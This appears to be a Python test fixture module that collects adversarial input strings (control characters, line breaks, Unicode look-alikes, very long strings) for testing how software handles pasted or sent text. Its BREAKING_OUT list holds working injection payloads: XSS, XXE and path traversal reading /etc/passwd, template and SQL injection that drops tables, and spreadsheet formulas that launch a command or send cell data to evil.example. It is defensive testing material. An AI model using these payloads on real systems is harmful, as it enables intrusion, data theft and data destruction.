"""Strings that a person may paste or a machine may send: of several lines, very long, invisible,
half of a character, or written to break out of what they are put into."""

from __future__ import annotations

import unicodedata
from typing import Final

from tests.naughty_strings import NAUGHTY

CONTROLS: Final = tuple(
    f"before{chr(code)}after" for code in (*range(0x20), *range(0x7F, 0xA0), 0xAD, 0x61C, 0x180E)
)
"""Every control character of both sets, and signs that format."""

LINES: Final = (
    *(f"one{line}two{line}{line}four" for line in ("\n", "\r\n", "\r", "\v", "\f", "\x85")),
    *(f"one{line}two" for line in ("\u2028", "\u2029", "\x1c", "\x1d", "\x1e", "\n\r", "\r\r\n")),
    "\nstarts and ends with a line\n",
    "\n\n\n",
    "\t\ttabs\tin\tbetween\t",
    "a\r\nBcc: someone@example.net",
    "Zoé\nX-Header: 1\n\n<html>",
)

BREAKING_OUT: Final = tuple(
    """
"autofocus onfocus=alert(1) x="
' onmouseover='alert(1)
` onerror=alert(1) `
"/><svg onload=alert(1)>
--><script>alert(1)</script><!--
]]><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script><textarea>
</script><script>alert(1)</script>
</style><style>*{display:none}
</option></select><img src=x onerror=alert(1)>
<template><img src=x></template>
<plaintext>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
<a href="java&#10;script:alert(1)">x</a>
<form action="https://evil.example"><button>x</button></form>
<input name=token value=stolen>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;
&amp;amp;
&copy
&notit;
<!ENTITY xxe SYSTEM "file:///etc/passwd">
<!DOCTYPE html>
<?php echo 1 ?>
{{ config }}
{{ "".__class__.__mro__ }}
{% include "/etc/passwd" %}
{# comment
${{7*7}}
#{7*7}
<%= 7*7 %>
{count} {most} {0!r:>{1}}
%n%n%n%n %08x %s
%(field)d
\\u003cscript\\u003e
\\x3cscript\\x3e
=cmd|' /C calc'!A0
+1+1
-2+3
@SUM(1+1)*cmd|' /C calc'!A0
=HYPERLINK("https://evil.example?x="&A1;"x")
"a","b";"c"
;drop table submission;
' UNION SELECT * FROM access_grant --
1; ATTACH DATABASE '/tmp/x' AS x
\\'; DELETE FROM outbox; --
$$; DROP TABLE event; $$
E'\\\\x00'
:name ?1 $1
![x](https://evil.example/x.png)
[x]: javascript:alert(1)
|a|b|\\n|-|-|
~~~
:material/delete: :red[x]
$\\\\href{javascript:alert(1)}{x}$
https://example.org/?a=1&b=%3Cscript%3E#"><b>
//evil.example/x
data:text/html;base64,PHNjcmlwdD4=
JaVaScRiPt:alert(1)
mailto:a@example.net?bcc=b@example.net
file:///etc/passwd
C:\\Windows\\system32\\con.txt
....//....//etc/passwd
%2e%2e%2fetc%2fpasswd
*)(uid=*))(|(uid=*
{"$ne": null}
{"__proto__": {"x": 1}}
[object Object]
undefined
None
True
nil
Infinity
1e400
0x7fffffffffffffff
99999999999999999999
1,000.50
١٢٣٤٥
१२३४
１２３
½ ⅷ ௧
""".strip().split("\n")
)
"""Written for what an answer is put into: HTML, templates, SQL, sheets, Markdown, addresses."""

LOOK_ALIKE: Final = (
    "Аррlе",
    "раураl.com",
    "ｆｕｌｌｗｉｄｔｈ　＜ｂ＞",
    "𝓈𝒸𝓇𝒾𝓅𝓉",
    "ⓢⓒⓡⓘⓟⓣ",
    "ŁʼÒréal ‘’ʹ′＇",
    "‹script›alert(1)‹/script›",
    "＂＇＜＞＆",
    "a⁄b∕c／d",
    "Nánjīng 南京 Нанкин नानजिङ นานกิง",
    "Слуцк–Минск 斯卢茨克 काठमाडौं—पोखरा «x» „y“ 「z」",
    "abc אבג def ابج 123",
    "\u202egnp.exe",
    "\u2067right\u2069 \u2066left\u2069",
    "\u200flist\u200e",
    "a\u0338b\u0489c\u20ddd",
    "\ufeffstarts with a mark",
    "x\ufeffy\u2060z\u180e",
    "\u3164",
    "\u2800\u2800",
    "\u00a0\u3000\u2003",
    "\u034f\u200b\u200c\u200d",
    "क्\u200dष क्\u200cष",
    "\ufff9text\ufffaover\ufffb",
    "\U000e0041\U000e0042",
    "x\ufe0e\ufe0f\U000e0100",
    "\U0001f1e8",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466" * 5,
    "\U0001f44b\U0001f3fb\U0001f44b\U0001f3ff",
    "#\ufe0f\u20e3*\ufe0f\u20e3",
    "\ud83d\ude00 as two halves",
    "\udc00\ud800",
    "\ud800" * 50,
    "\U0010ffff\ufdd0\ufffe",
    "\ue000\U000f0000",
    unicodedata.normalize("NFD", "Ёлкина Zoé Ṩǘ 한국어"),
    unicodedata.normalize("NFKD", "ﬁﬂ①㍿"),
    "Å Å Å",
    "ẛ̣ ỗ q̣̇",
)
"""What looks like something else, points another way, or is half of something."""

LONG: Final = (
    "a" * 20_000,
    "中" * 20_000,
    "क्ष" * 5_000,
    "😀" * 5_000,
    "Z" + "\u0334\u0353\u030d" * 500,
    "e\u0301" * 3_000,
    "\u0301" * 2_000,
    "\u200b" * 5_000,
    " " * 5_000,
    "\n" * 5_000,
    "line\n" * 2_000,
    "<" * 5_000,
    "&" * 5_000,
    '"' * 5_000,
    "\\" * 5_000,
    "{{" * 2_500,
    "%s" * 2_500,
    "((((((((((" * 300,
    "word " * 3_000,
    "\ufdfa" * 500,
)

PASTED: Final[tuple[str, ...]] = tuple(
    dict.fromkeys((*NAUGHTY, *CONTROLS, *LINES, *BREAKING_OUT, *LOOK_ALIKE, *LONG))
)
"""All of them, and those that fit one line."""
